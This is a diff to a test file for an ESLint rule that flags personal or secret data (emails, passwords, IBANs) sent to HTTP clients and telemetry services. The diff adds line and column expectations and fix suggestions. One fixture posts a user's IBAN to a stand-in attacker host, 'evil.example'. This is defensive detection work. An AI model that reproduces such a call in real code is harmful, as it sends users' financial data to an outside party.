@@ -51,6 +51,9 @@ ruleTester.run('no-classified-third-party', rule, {
   ],
   invalid: [
     invalid(MODELS + `await fetch(\`https://api.example.com/users?email=\${email}\`);`, {
+      messageId: 'classified',
+      line: 2,
+      column: 13,
       arg: '`https://api.example.com/users?email=${email}`',
       at: 'email',
       path: 'email',
@@ -59,6 +62,9 @@ ruleTester.run('no-classified-third-party', rule, {
       masker: 'maskEmail',
     }),
     invalid(MODELS + `await fetch('https://api.example.com', { method: 'POST', body: JSON.stringify(user) });`, {
+      messageId: 'classified',
+      line: 2,
+      column: 40,
       arg: `{ method: 'POST', body: JSON.stringify(user) }`,
       at: 'user',
       ...wholeUser('user', true),
@@ -67,6 +73,9 @@ ruleTester.run('no-classified-third-party', rule, {
     invalid(
       MODELS + `await fetch('https://api.example.com', { headers: { Authorization: \`Bearer \${password}\` } });`,
       {
+        messageId: 'classified',
+        line: 2,
+        column: 40,
         arg: '{ headers: { Authorization: `Bearer ${password}` } }',
         at: 'password',
         path: 'password',
@@ -76,11 +85,17 @@ ruleTester.run('no-classified-third-party', rule, {
       },
     ),
     invalid(MODELS + `import axios from 'axios';\nawait axios.post('https://api.example.com/users', user);`, {
+      messageId: 'classified',
+      line: 3,
+      column: 51,
       arg: 'user',
       ...wholeUser('user', true),
       sink: 'axios.post()',
     }),
     invalid(MODELS + `import axios from 'axios';\nawait axios({ url: 'https://api.example.com', data: { email } });`, {
+      messageId: 'classified',
+      line: 3,
+      column: 13,
       arg: `{ url: 'https://api.example.com', data: { email } }`,
       at: '{ email }',
       path: 'email',
@@ -89,6 +104,9 @@ ruleTester.run('no-classified-third-party', rule, {
       masker: 'maskEmail',
     }),
     invalid(MODELS + `import axios from 'axios';\nawait axios.get('https://api.example.com', { params: { email } });`, {
+      messageId: 'classified',
+      line: 3,
+      column: 44,
       arg: '{ params: { email } }',
       at: '{ email }',
       path: 'email',
@@ -97,6 +115,9 @@ ruleTester.run('no-classified-third-party', rule, {
       masker: 'maskEmail',
     }),
     invalid(MODELS + `import axios from 'axios';\nconst api = axios.create({ headers: { 'X-Key': password } });`, {
+      messageId: 'classified',
+      line: 3,
+      column: 26,
       arg: `{ headers: { 'X-Key': password } }`,
       at: 'password',
       path: 'password',
@@ -105,12 +126,18 @@ ruleTester.run('no-classified-third-party', rule, {
       masker: 'redactString',
     }),
     invalid(MODELS + `import got from 'got';\nawait got.post('https://api.example.com', { json: user });`, {
+      messageId: 'classified',
+      line: 3,
+      column: 43,
       arg: '{ json: user }',
       at: 'user',
       ...wholeUser('user', true),
       sink: 'got.post()',
     }),
     invalid(MODELS + `import ky from 'ky';\nawait ky.post('https://api.example.com', { json: { email } });`, {
+      messageId: 'classified',
+      line: 3,
+      column: 42,
       arg: '{ json: { email } }',
       at: '{ email }',
       path: 'email',
@@ -122,6 +149,9 @@ ruleTester.run('no-classified-third-party', rule, {
       MODELS +
         `import { request } from 'undici';\nawait request('https://api.example.com', { method: 'POST', body: JSON.stringify(user) });`,
       {
+        messageId: 'classified',
+        line: 3,
+        column: 42,
         arg: `{ method: 'POST', body: JSON.stringify(user) }`,
         at: 'user',
         ...wholeUser('user', true),
@@ -132,6 +162,9 @@ ruleTester.run('no-classified-third-party', rule, {
       MODELS +
         `import { fetch as undiciFetch } from 'undici';\nawait undiciFetch(\`https://api.example.com/\${email}\`);`,
       {
+        messageId: 'classified',
+        line: 3,
+        column: 19,
         arg: '`https://api.example.com/${email}`',
         at: 'email',
         path: 'email',
@@ -143,6 +176,9 @@ ruleTester.run('no-classified-third-party', rule, {
     invalid(
       MODELS + `import https from 'node:https';\nhttps.request({ host: 'api.example.com', path: \`/u/\${email}\` });`,
       {
+        messageId: 'classified',
+        line: 3,
+        column: 15,
         arg: "{ host: 'api.example.com', path: `/u/${email}` }",
         at: 'email',
         path: 'email',
@@ -152,6 +188,9 @@ ruleTester.run('no-classified-third-party', rule, {
       },
     ),
     invalid(MODELS + `import http from 'node:http';\nhttp.get(\`http://api.example.com/\${email}\`);`, {
+      messageId: 'classified',
+      line: 3,
+      column: 10,
       arg: '`http://api.example.com/${email}`',
       at: 'email',
       path: 'email',
@@ -160,6 +199,9 @@ ruleTester.run('no-classified-third-party', rule, {
       masker: 'maskEmail',
     }),
     invalid(MODELS + `const xhr = new XMLHttpRequest();\nxhr.send(JSON.stringify(user));`, {
+      messageId: 'classified',
+      line: 3,
+      column: 10,
       arg: 'JSON.stringify(user)',
       at: 'user',
       ...wholeUser('user', true),
@@ -167,9 +209,20 @@ ruleTester.run('no-classified-third-party', rule, {
     }),
     invalid(
       MODELS + `import * as Sentry from '@sentry/core';\nSentry.captureException(new Error('x'), { extra: { user } });`,
-      { arg: '{ extra: { user } }', at: '{ user }', ...wholeUser('user', true), sink: 'Sentry.captureException()' },
+      {
+        messageId: 'classified',
+        line: 3,
+        column: 41,
+        arg: '{ extra: { user } }',
+        at: '{ user }',
+        ...wholeUser('user', true),
+        sink: 'Sentry.captureException()',
+      },
     ),
     invalid(MODELS + `import * as Sentry from '@sentry/core';\nSentry.captureMessage(\`failed for \${email}\`);`, {
+      messageId: 'classified',
+      line: 3,
+      column: 23,
       arg: '`failed for ${email}`',
       at: 'email',
       path: 'email',
@@ -177,21 +230,59 @@ ruleTester.run('no-classified-third-party', rule, {
       sink: 'Sentry.captureMessage()',
       masker: 'maskEmail',
     }),
-    invalid(MODELS + `import * as Sentry from '@sentry/core';\nSentry.setUser({ email });`, {
-      arg: '{ email }',
-      at: '{ email }',
-      path: 'email',
-      category: pii,
-      sink: 'Sentry.setUser()',
-      masker: 'maskEmail',
-    }),
+    {
+      code:
+        `import { user, users, orders, email, password, score, type User, type LookAlike } from './models.js';\n` +
+        `import * as Sentry from '@sentry/core';\n` +
+        `Sentry.setUser({ email });`,
+      errors: [
+        {
+          messageId: 'classified',
+          line: 3,
+          column: 16,
+          data: {
+            paths: '`email`',
+            level: 'restricted',
+            category: ' (pii)',
+            sink: 'Sentry.setUser()',
+            via: '',
+            fix: 'Mask or tokenize it, declassify it with a reason, or list the recipient in `allow`.',
+          },
+          suggestions: [
+            {
+              messageId: 'suggestMask',
+              data: { masker: 'maskEmail' },
+              output:
+                `import { maskEmail } from '@classified/core';\n` +
+                `import { user, users, orders, email, password, score, type User, type LookAlike } from './models.js';\n` +
+                `import * as Sentry from '@sentry/core';\n` +
+                `Sentry.setUser({ email: maskEmail(email) });`,
+            },
+            {
+              messageId: 'suggestDeclassify',
+              output:
+                `import { declassify } from '@classified/core';\n` +
+                `import { user, users, orders, email, password, score, type User, type LookAlike } from './models.js';\n` +
+                `import * as Sentry from '@sentry/core';\n` +
+                `Sentry.setUser({ email: declassify(email, 'TODO: say why this data may leave its classification') });`,
+            },
+          ],
+        },
+      ],
+    },
     invalid(MODELS + `import * as Sentry from '@sentry/core';\nSentry.setContext('user', { ...user });`, {
+      messageId: 'classified',
+      line: 3,
+      column: 27,
       arg: '{ ...user }',
       at: 'user',
       ...wholeUser('user', true),
       sink: 'Sentry.setContext()',
     }),
     invalid(MODELS + `import * as Sentry from '@sentry/core';\nSentry.setExtra('email', email);`, {
+      messageId: 'classified',
+      line: 3,
+      column: 26,
       arg: 'email',
       path: 'email',
       category: pii,
@@ -199,6 +290,9 @@ ruleTester.run('no-classified-third-party', rule, {
       masker: 'maskEmail',
     }),
     invalid(MODELS + `import * as Sentry from '@sentry/core';\nSentry.setTag('email', email);`, {
+      messageId: 'classified',
+      line: 3,
+      column: 24,
       arg: 'email',
       path: 'email',
       category: pii,
@@ -208,6 +302,9 @@ ruleTester.run('no-classified-third-party', rule, {
     invalid(
       MODELS + `import * as Sentry from '@sentry/core';\nSentry.addBreadcrumb({ message: \`login \${email}\` });`,
       {
+        messageId: 'classified',
+        line: 3,
+        column: 22,
         arg: '{ message: `login ${email}` }',
         at: 'email',
         path: 'email',
@@ -220,6 +317,9 @@ ruleTester.run('no-classified-third-party', rule, {
       MODELS +
         `import { Analytics } from '@segment/analytics-node';\nconst analytics = new Analytics({ writeKey: 'w' });\nanalytics.identify({ userId: user.id, traits: { email } });`,
       {
+        messageId: 'classified',
+        line: 4,
+        column: 20,
         arg: '{ userId: user.id, traits: { email } }',
         at: '{ email }',
         path: 'email',
@@ -232,6 +332,9 @@ ruleTester.run('no-classified-third-party', rule, {
       MODELS +
         `import { Analytics } from '@segment/analytics-node';\nconst analytics = new Analytics({ writeKey: 'w' });\nanalytics.track({ userId: email, event: 'Signed Up' });`,
       {
+        messageId: 'classified',
+        line: 4,
+        column: 17,
         arg: `{ userId: email, event: 'Signed Up' }`,
         at: 'email',
         path: 'email',
@@ -244,6 +347,9 @@ ruleTester.run('no-classified-third-party', rule, {
       MODELS +
         `import { Analytics } from '@segment/analytics-node';\nconst analytics = new Analytics({ writeKey: 'w' });\nanalytics.page({ userId: email });`,
       {
+        messageId: 'classified',
+        line: 4,
+        column: 16,
         arg: '{ userId: email }',
         at: 'email',
         path: 'email',
@@ -256,6 +362,9 @@ ruleTester.run('no-classified-third-party', rule, {
       MODELS +
         `import { Analytics } from '@segment/analytics-node';\nconst analytics = new Analytics({ writeKey: 'w' });\nanalytics.group({ userId: 'u', groupId: email });`,
       {
+        messageId: 'classified',
+        line: 4,
+        column: 17,
         arg: `{ userId: 'u', groupId: email }`,
         at: 'email',
         path: 'email',
@@ -268,6 +377,9 @@ ruleTester.run('no-classified-third-party', rule, {
       MODELS +
         `import { Analytics } from '@segment/analytics-node';\nconst analytics = new Analytics({ writeKey: 'w' });\nanalytics.alias({ userId: email, previousId: 'p' });`,
       {
+        messageId: 'classified',
+        line: 4,
+        column: 17,
         arg: `{ userId: email, previousId: 'p' }`,
         at: 'email',
         path: 'email',
@@ -279,6 +391,9 @@ ruleTester.run('no-classified-third-party', rule, {
     invalid(
       MODELS + `import { PostHog } from 'posthog-node';\nnew PostHog('k').capture({ distinctId: email, event: 'e' });`,
       {
+        messageId: 'classified',
+        line: 3,
+        column: 26,
         arg: `{ distinctId: email, event: 'e' }`,
         at: 'email',
         path: 'email',
@@ -291,6 +406,9 @@ ruleTester.run('no-classified-third-party', rule, {
       MODELS +
         `import { PostHog } from 'posthog-node';\nnew PostHog('k').identify({ distinctId: 'u', properties: { email } });`,
       {
+        messageId: 'classified',
+        line: 3,
+        column: 27,
         arg: `{ distinctId: 'u', properties: { email } }`,
         at: '{ email }',
         path: 'email',
@@ -301,12 +419,25 @@ ruleTester.run('no-classified-third-party', rule, {
     ),
     invalid(
       MODELS + `import Mixpanel from 'mixpanel';\nconst mp = Mixpanel.init('t');\nmp.track('signup', { email });`,
-      { arg: '{ email }', at: '{ email }', path: 'email', category: pii, sink: 'mp.track()', masker: 'maskEmail' },
+      {
+        messageId: 'classified',
+        line: 4,
+        column: 20,
+        arg: '{ email }',
+        at: '{ email }',
+        path: 'email',
+        category: pii,
+        sink: 'mp.track()',
+        masker: 'maskEmail',
+      },
     ),
     invalid(
       MODELS +
         `import Mixpanel from 'mixpanel';\nconst mp = Mixpanel.init('t');\nmp.people.set('u', { $email: email });`,
       {
+        messageId: 'classified',
+        line: 4,
+        column: 20,
         arg: '{ $email: email }',
         at: 'email',
         path: 'email',
@@ -319,6 +450,9 @@ ruleTester.run('no-classified-third-party', rule, {
       MODELS +
         `import { trace } from '@opentelemetry/api';\ntrace.getTracer('t').startSpan('s').setAttribute('user.email', email);`,
       {
+        messageId: 'classified',
+        line: 3,
+        column: 64,
         arg: 'email',
         path: 'email',
         category: pii,
@@ -330,6 +464,9 @@ ruleTester.run('no-classified-third-party', rule, {
       MODELS +
         `import { trace } from '@opentelemetry/api';\ntrace.getActiveSpan()?.setAttributes({ 'user.email': email });`,
       {
+        messageId: 'classified',
+        line: 3,
+        column: 38,
         arg: `{ 'user.email': email }`,
         at: 'email',
         path: 'email',
@@ -341,6 +478,9 @@ ruleTester.run('no-classified-third-party', rule, {
     invalid(
       MODELS + `import { trace } from '@opentelemetry/api';\ntrace.getActiveSpan()?.addEvent(\`login \${email}\`);`,
       {
+        messageId: 'classified',
+        line: 3,
+        column: 33,
         arg: '`login ${email}`',
         at: 'email',
         path: 'email',
@@ -352,6 +492,9 @@ ruleTester.run('no-classified-third-party', rule, {
     invalid(
       MODELS + `import { datadogRum } from '@datadog/browser-rum';\ndatadogRum.setUser({ id: user.id, email });`,
       {
+        messageId: 'classified',
+        line: 3,
+        column: 20,
         arg: '{ id: user.id, email }',
         at: 'email',
         shorthand: true,
@@ -365,6 +508,9 @@ ruleTester.run('no-classified-third-party', rule, {
       MODELS +
         `import { datadogRum } from '@datadog/browser-rum';\ndatadogRum.addAction('checkout', { card: orders[0]!.card });`,
       {
+        messageId: 'classified',
+        line: 3,
+        column: 34,
         arg: '{ card: orders[0]!.card }',
         at: 'orders[0]!.card',
         path: 'orders[0].card',
@@ -374,6 +520,9 @@ ruleTester.run('no-classified-third-party', rule, {
       },
     ),
     invalid(MODELS + `import tracer from 'dd-trace';\ntracer.scope().active()?.setTag('user.email', email);`, {
+      messageId: 'classified',
+      line: 3,
+      column: 47,
       arg: 'email',
       path: 'email',
       category: pii,
@@ -385,6 +534,9 @@ ruleTester.run('no-classified-third-party', rule, {
       MODELS +
         `import axios from 'axios';\nawait axios.post('https://api.payouts.example/v1/payouts', { iban: user.payouts[0]!.iban, email });`,
       {
+        messageId: 'classified',
+        line: 3,
+        column: 60,
         arg: '{ iban: user.payouts[0]!.iban, email }',
         at: 'email',
         shorthand: true,
@@ -399,6 +551,9 @@ ruleTester.run('no-classified-third-party', rule, {
       MODELS +
         `import axios from 'axios';\nawait axios.post('https://evil.example/v1/payouts', { iban: user.payouts[0]!.iban });`,
       {
+        messageId: 'classified',
+        line: 3,
+        column: 53,
         arg: '{ iban: user.payouts[0]!.iban }',
         at: 'user.payouts[0]!.iban',
         path: 'user.payouts[0].iban',
@@ -411,6 +566,9 @@ ruleTester.run('no-classified-third-party', rule, {
     invalid(
       MODELS + `import * as Sentry from '@sentry/core';\nSentry.captureMessage(\`\${email}\`);`,
       {
+        messageId: 'classified',
+        line: 3,
+        column: 23,
         arg: '`${email}`',
         at: 'email',
         path: 'email',
@@ -422,6 +580,9 @@ ruleTester.run('no-classified-third-party', rule, {
     ),
     // Confidential is above the default Internal for third parties.
     invalid(MODELS + `await fetch('https://api.example.com', { body: String(score) });`, {
+      messageId: 'classified',
+      line: 2,
+      column: 40,
       arg: '{ body: String(score) }',
       at: 'score',
       path: 'score',
@@ -433,6 +594,9 @@ ruleTester.run('no-classified-third-party', rule, {
       MODELS +
         `import axios from 'axios';\nasync function notify(payload: object) { await axios.post('https://hooks.example.com', payload); }\nawait notify({ email });`,
       {
+        messageId: 'classified',
+        line: 4,
+        column: 14,
         arg: '{ email }',
         at: '{ email }',
         path: 'email',
